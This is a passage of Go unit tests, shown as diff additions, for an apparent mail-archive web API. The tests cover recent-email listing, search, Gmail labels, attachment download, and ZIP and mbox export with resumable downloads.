+	require.NoError(t, store.SaveEmailBatch([]*storage.Email{
+		{UID: 1, Mailbox: "INBOX", Subject: "Oldest", Date: base},
+		{UID: 2, Mailbox: "INBOX", Subject: "Newest", Date: base.AddDate(0, 0, 3)},
+		{UID: 5, Mailbox: "Archive", Subject: "Middle", Date: base.AddDate(0, 0, 2)},
+		{UID: 6, Mailbox: "Archive", Subject: "Deleted", Date: base.AddDate(0, 0, 4)},
+	}))
+	_, err := store.MarkDeleted("Archive", []uint32{6}, time.Now())
+	require.NoError(t, err)
+
+	recent := func(t *testing.T, query string) map[string]interface{} {
+		t.Helper()
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/api/v1/recent"+query, nil))
+		require.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		return response
+	}
+	locations := func(response map[string]interface{}) []string {
+		var result []string
+		for _, e := range response["emails"].([]interface{}) {
+			email := e.(map[string]interface{})
+			result = append(result, fmt.Sprintf("%s:%v", email["mailbox"], email["uid"]))
+		}
+		return result
+	}
+
+	response := recent(t, "")
+	assert.Equal(t, []string{"INBOX:2", "Archive:5", "INBOX:1"}, locations(response), "newest first, deleted hidden")
+	assert.Equal(t, float64(3), response["total"])
+	assert.Equal(t, float64(1), response["total_pages"])
+
+	response = recent(t, "?limit=2&page=2")
+	assert.Equal(t, []string{"INBOX:1"}, locations(response))
+	assert.Equal(t, float64(2), response["total_pages"])
+	assert.Equal(t, false, response["has_more"])
+}
+
+func TestSearchEmails(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	require.NoError(t, store.SaveEmail(&storage.Email{
+		UID:        7,
+		Mailbox:    "INBOX",
+		Subject:    "Travel plans",
+		From:       "agent@example.com",
+		Date:       time.Now(),
+		RawMessage: []byte("From: agent@example.com\r\nSubject: Travel plans\r\nContent-Type: text/plain\r\n\r\nYour itinerary is attached."),
+	}))
+	require.NoError(t, store.SaveEmail(&storage.Email{
+		UID:        8,
+		Mailbox:    "Archive",
+		Subject:    "Old trip",
+		From:       "agent@example.com",
+		Date:       time.Now(),
+		RawMessage: []byte("From: agent@example.com\r\nSubject: Old trip\r\nContent-Type: text/plain\r\n\r\nPrevious itinerary enclosed."),
+	}))
+	require.NoError(t, store.SaveEmail(&storage.Email{
+		UID:        9,
+		Mailbox:    "INBOX",
+		Subject:    "Unrelated",
+		From:       "other@example.com",
+		Date:       time.Now(),
+		RawMessage: []byte("From: other@example.com\r\nSubject: Unrelated\r\n\r\nNothing to see."),
+	}))
+
+	t.Run("matches body word", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/search?q=itinerary", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Equal(t, float64(2), response["total"])
+		assert.Equal(t, float64(1), response["page"])
+		assert.Equal(t, float64(50), response["limit"])
+		assert.Equal(t, float64(1), response["total_pages"])
+		assert.Len(t, response["emails"], 2)
+	})
+
+	t.Run("restricted to mailbox", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/search?q=itinerary&mailbox=INBOX", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		emails := response["emails"].([]interface{})
+		require.Len(t, emails, 1)
+		email := emails[0].(map[string]interface{})
+		assert.Equal(t, float64(7), email["uid"])
+		assert.Equal(t, "INBOX", email["mailbox"])
+	})
+
+	t.Run("paginated", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/search?q=itinerary&limit=1&page=2", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Equal(t, float64(2), response["total_pages"])
+		assert.Len(t, response["emails"], 1)
+	})
+
+	t.Run("empty query", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/search?q=", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusBadRequest, w.Code)
+		assert.Contains(t, w.Body.String(), "Missing search query")
+	})
+}
+
+func TestGmailLabelsInResponses(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	require.NoError(t, store.SaveEmail(&storage.Email{
+		UID:           1,
+		Mailbox:       "INBOX",
+		Subject:       "Labelled",
+		Date:          time.Now(),
+		GmailLabels:   []string{"Important", "Receipts"},
+		GmailMsgID:    1278455344230334866,
+		GmailThreadID: 1278455344230334865,
+		RawMessage:    []byte("Subject: Labelled\r\n\r\nBody"),
+	}))
+
+	t.Run("get email", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/1", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Equal(t, []interface{}{"Important", "Receipts"}, response["gmail_labels"])
+		assert.Equal(t, "1278455344230334866", response["gmail_msgid"])
+		assert.Equal(t, "1278455344230334865", response["gmail_thrid"])
+		assert.Equal(t, "1278455344230334865", response["thread_id"])
+	})
+
+	t.Run("list emails", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		emails := response["emails"].([]interface{})
+		require.Len(t, emails, 1)
+		email := emails[0].(map[string]interface{})
+		assert.Equal(t, []interface{}{"Important", "Receipts"}, email["gmail_labels"])
+	})
+}
+
+func TestAttachments(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	raw := []byte("Subject: Files\r\n" +
+		"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n" +
+		"--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" +
+		"--b\r\nContent-Type: application/pdf\r\n" +
+		"Content-Disposition: attachment; filename=\"report.pdf\"\r\n" +
+		"Content-Transfer-Encoding: base64\r\n\r\n" +
+		"JVBERi0xLjQKJSBmYWtl\r\n" +
+		"--b--\r\n")
+	require.NoError(t, store.SaveEmail(&storage.Email{
+		UID:        1,
+		Mailbox:    "INBOX",
+		Subject:    "Files",
+		Date:       time.Now(),
+		RawMessage: raw,
+	}))
+
+	get := func(path string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodGet, path, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		return w
+	}
+
+	t.Run("list", func(t *testing.T) {
+		w := get("/api/v1/mailboxes/INBOX/emails/1/attachments")
+		assert.Equal(t, http.StatusOK, w.Code)
+
+		var response []map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		require.Len(t, response, 1)
+		assert.Equal(t, float64(1), response[0]["index"])
+		assert.Equal(t, "report.pdf", response[0]["filename"])
+		assert.Equal(t, "application/pdf", response[0]["content_type"])
+		assert.Equal(t, float64(15), response[0]["size"])
+	})
+
+	t.Run("list without attachments", func(t *testing.T) {
+		w := get("/api/v1/mailboxes/INBOX/emails/999/attachments")
+		assert.Equal(t, http.StatusOK, w.Code)
+		assert.JSONEq(t, "[]", w.Body.String())
+	})
+
+	t.Run("download", func(t *testing.T) {
+		w := get("/api/v1/mailboxes/INBOX/emails/1/attachments/1")
+		assert.Equal(t, http.StatusOK, w.Code)
+		assert.Equal(t, "application/pdf", w.Header().Get("Content-Type"))
+		assert.Equal(t, `attachment; filename=report.pdf`, w.Header().Get("Content-Disposition"))
+		assert.Equal(t, "%PDF-1.4\n% fake", w.Body.String())
+	})
+
+	t.Run("missing attachment", func(t *testing.T) {
+		assert.Equal(t, http.StatusNotFound, get("/api/v1/mailboxes/INBOX/emails/1/attachments/0").Code)
+		assert.Equal(t, http.StatusNotFound, get("/api/v1/mailboxes/INBOX/emails/2/attachments/1").Code)
+	})
+
+	t.Run("bad index", func(t *testing.T) {
+		assert.Equal(t, http.StatusBadRequest, get("/api/v1/mailboxes/INBOX/emails/1/attachments/abc").Code)
+		assert.Equal(t, http.StatusBadRequest, get("/api/v1/mailboxes/INBOX/emails/1/attachments/-1").Code)
+	})
+
+	t.Run("bad uid", func(t *testing.T) {
+		assert.Equal(t, http.StatusBadRequest, get("/api/v1/mailboxes/INBOX/emails/abc/attachments").Code)
+		assert.Equal(t, http.StatusBadRequest, get("/api/v1/mailboxes/INBOX/emails/abc/attachments/1").Code)
+	})
+
+	t.Run("ui lists attachments", func(t *testing.T) {
+		assert.Contains(t, get("/ui/app.js").Body.String(), "loadAttachments")
+	})
+}
+
+func TestAttachmentFilename(t *testing.T) {
+	assert.Equal(t, "a.pdf", attachmentFilename(&storage.Attachment{Filename: "a.pdf"}))
+	assert.Equal(t, "attachment-3", attachmentFilename(&storage.Attachment{PartIndex: 3}))
+}
+
+func TestExportZip(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	for _, mailbox := range []string{"INBOX", "Archive/2024"} {
+		require.NoError(t, store.SaveMailboxState(&storage.MailboxState{Name: mailbox, UIDValidity: 1, LastUID: 2}))
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:        2,
+			Mailbox:    mailbox,
+			Date:       time.Date(2024, 1, 2, 0, 0, 0, 0, time.UTC),
+			RawMessage: []byte("Subject: In " + mailbox + "\r\n\r\nbody\r\n"),
+		}))
+	}
+
+	get := func(path string) (*httptest.ResponseRecorder, map[string]string) {
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
+		if w.Code != http.StatusOK {
+			return w, nil
+		}
+		zr, err := zip.NewReader(bytes.NewReader(w.Body.Bytes()), int64(w.Body.Len()))
+		require.NoError(t, err)
+		entries := map[string]string{}
+		for _, f := range zr.File {
+			rc, err := f.Open()
+			require.NoError(t, err)
+			data, err := io.ReadAll(rc)
+			rc.Close()
+			require.NoError(t, err)
+			entries[f.Name] = string(data)
+		}
+		return w, entries
+	}
+
+	w, entries := get("/api/v1/export.zip")
+	require.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "application/zip", w.Header().Get("Content-Type"))
+	assert.Equal(t, `attachment; filename=imapsync-export.zip`, w.Header().Get("Content-Disposition"))
+	assert.Equal(t, "Subject: In Archive/2024\r\n\r\nbody\r\n", entries["Archive/2024/2.eml"])
+	assert.Len(t, entries, 2)
+
+	w, entries = get("/api/v1/export.zip?mailbox=INBOX")
+	require.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, `attachment; filename=INBOX.zip`, w.Header().Get("Content-Disposition"))
+	assert.Equal(t, map[string]string{"INBOX/2.eml": "Subject: In INBOX\r\n\r\nbody\r\n"}, entries)
+
+	w, _ = get("/api/v1/export.zip?mailbox=Missing")
+	assert.Equal(t, http.StatusNotFound, w.Code)
+
+	t.Run("resume", func(t *testing.T) {
+		for uid := uint32(3); uid <= 4; uid++ {
+			require.NoError(t, store.SaveEmail(&storage.Email{UID: uid, Mailbox: "INBOX", RawMessage: []byte(fmt.Sprintf("Subject: %d\r\n\r\n", uid))}))
+		}
+		_, full := get("/api/v1/export.zip?mailbox=INBOX")
+		require.Len(t, full, 3)
+
+		// A download cut after INBOX/2.eml completes with the entries after it.
+		w, rest := get("/api/v1/export.zip?mailbox=INBOX&after_uid=2")
+		require.Equal(t, http.StatusOK, w.Code)
+		assert.Len(t, rest, 2)
+		rest["INBOX/2.eml"] = entries["INBOX/2.eml"]
+		assert.Equal(t, full, rest)
+
+		w, _ = get("/api/v1/export.zip?after_uid=2")
+		assert.Equal(t, http.StatusBadRequest, w.Code, "UIDs only order a single mailbox")
+		w, _ = get("/api/v1/export.zip?mailbox=INBOX&after_uid=x")
+		assert.Equal(t, http.StatusBadRequest, w.Code)
+	})
+}
+
+func TestExportMbox(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	require.NoError(t, store.SaveMailboxState(&storage.MailboxState{Name: "Archive/2024", UIDValidity: 1, LastUID: 2}))
+	for uid := uint32(1); uid <= 2; uid++ {
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:        uid,
+			Mailbox:    "Archive/2024",
+			From:       "sender@example.com",
+			Date:       time.Date(2024, 1, int(uid), 0, 0, 0, 0, time.UTC),
+			RawMessage: []byte(fmt.Sprintf("Subject: Message %d\r\n\r\nFrom here on.\r\n", uid)),
+		}))
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/Archive%2F2024/export.mbox", nil)
+	w := httptest.NewRecorder()
+	server.ServeHTTP(w, req)
+
+	require.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "application/mbox", w.Header().Get("Content-Type"))
+	assert.Equal(t, `attachment; filename=Archive_2024.mbox`, w.Header().Get("Content-Disposition"))
+	assert.Equal(t, "From sender@example.com Mon Jan  1 00:00:00 2024\nSubject: Message 1\n\n>From here on.\n\n"+
+		"From sender@example.com Tue Jan  2 00:00:00 2024\nSubject: Message 2\n\n>From here on.\n\n", w.Body.String())
+
+	req = httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/Missing/export.mbox", nil)
+	w = httptest.NewRecorder()
+	server.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusNotFound, w.Code)
+
+	t.Run("resume", func(t *testing.T) {
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:        5,
+			Mailbox:    "Archive/2024",
+			Date:       time.Date(2024, 1, 5, 0, 0, 0, 0, time.UTC),
+			RawMessage: []byte("Subject: Message 5\r\n\r\nbody\r\n"),
+		}))
+		get := func(query string) *httptest.ResponseRecorder {
+			w := httptest.NewRecorder()
+			server.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/Archive%2F2024/export.mbox"+query, nil))
+			return w
+		}
+		full := get("").Body.String()
+
+		// The download broke off during the second message: keep the first
+		// and resume after its UID.
+		partial := full[:strings.Index(full, "From sender@example.com Tue")]
+		w := get("?after_uid=1")
+		require.Equal(t, http.StatusOK, w.Code)
+		assert.Equal(t, full, partial+w.Body.String())
+
+		assert.Empty(t, get("?after_uid=5").Body.String())
+		assert.Equal(t, http.StatusBadRequest, get("?after_uid=-1").Code)
+	})
 }